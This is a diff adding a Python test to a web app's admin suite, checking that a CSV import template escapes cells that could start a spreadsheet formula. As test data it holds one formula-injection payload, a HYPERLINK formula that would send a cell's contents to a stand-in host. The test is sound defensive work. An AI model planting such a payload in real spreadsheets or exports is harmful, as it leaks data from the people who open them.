@@ -353,3 +353,20 @@ def test_volunteers_whose_dbs_check_has_no_level_are_counted_and_listed(
     assert "1 volunteer</p>" in listed
     none = admin.get("/admin/volunteers?dbs=expired").get_data(as_text=True)
     assert "0 volunteers</p>" in none
+
+
+def test_a_template_cell_that_could_start_a_formula_is_neutralised(signed_in, monkeypatch):
+    import csv
+    import io
+
+    from web import admin as admin_pages
+
+    hostile = '=HYPERLINK("http://x/?d="&A1,"Click")'
+    monkeypatch.setattr(admin_pages, "template_rows", lambda _columns: [["name", "lon"], [hostile, "-0.19"]])
+
+    template = signed_in("admin").get("/admin/imports/template/organisations.csv")
+
+    assert list(csv.reader(io.StringIO(template.get_data(as_text=True)))) == [
+        ["name", "lon"],
+        ["'" + hostile, "-0.19"],
+    ]
